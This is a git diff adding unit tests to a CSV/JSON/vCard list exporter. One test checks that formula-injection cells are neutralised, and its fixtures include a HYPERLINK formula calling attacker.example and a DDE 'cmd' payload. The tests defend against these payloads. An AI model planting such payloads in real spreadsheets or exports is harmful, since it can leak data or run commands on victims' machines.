@@ -10,6 +10,7 @@ import { resolve } from 'node:path';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { listToCsv, listToJson, listToVcards } from '../../entrypoints/lists/export/list-export';
+import { parseTable } from '../../entrypoints/lists/import/read-file';
 import type { EndpointId } from '../../lib/api/ids';
 import { readEnriched } from '../../lib/background/lists/enriched';
 import type { ListInput, ListOptions, ListRequestView } from '../../lib/protocol';
@@ -129,6 +130,26 @@ describe('the CSV', () => {
     expect(cell(0, 'Notes')).toBe(`'\rcr`);
   });
 
+  it('neutralises a formula by its first character whatever follows, line breaks included', async () => {
+    const notes = [
+      '=HYPERLINK("https://attacker.example/?x=1",\n"Details")',
+      "+1\r\n+cmd|' /C calc'!A0",
+      '-2+3\ncontinued',
+      '@SUM(1+1)\n',
+      '\t=1+1\nmore',
+      '\r=1+1\r\nmore',
+    ];
+    const input: ListInput = {
+      columns: ['=Profile\nheader', 'Notes'],
+      mapping: ['profile_url', 'ignore'],
+      rows: notes.map((note) => ['', note]),
+      targets: notes.map(() => ({ reason: 'Nothing to look up' })),
+    };
+    const { header, rows } = await csvOf(input);
+    expect(header[0]).toBe(`'=Profile\nheader`);
+    expect(rows.map((row) => row[1])).toEqual(notes.map((note) => `'${note}`));
+  });
+
   it('adds emails and numbers only when they were asked for', async () => {
     expect((await csvOf()).header).not.toContain('Emails');
     const { cell } = await csvOf(INPUT, { ...OPTIONS, contacts: true });
@@ -149,6 +170,22 @@ describe('JSON and vCards', () => {
     });
     expect(rows[0]!.enriched).not.toHaveProperty('emails');
     expect(listToJson(INPUT, REQUESTS, { ...OPTIONS, contacts: true })[0]!.enriched).toHaveProperty('emails');
+  });
+
+  it('JSON gives back every cell as the file had it: a leading tab or carriage return is kept', async () => {
+    const table = await parseTable(
+      'Profile,Notes\r\nlinkedin.com/in/ada,"\tindented"\r\nlinkedin.com/in/bob,"\rreturn"\r\n',
+    );
+    const input: ListInput = {
+      columns: table.columns,
+      mapping: ['profile_url', 'ignore'],
+      rows: table.rows,
+      targets: [{ key: 'ada' }, { key: 'bob' }],
+    };
+    expect(listToJson(input, REQUESTS, OPTIONS).map((row) => row.input.Notes)).toEqual([
+      '\tindented',
+      '\rreturn',
+    ]);
   });
 
   it('vCard 4.0: one card a person found, escaped and folded as RFC 6350 says', () => {
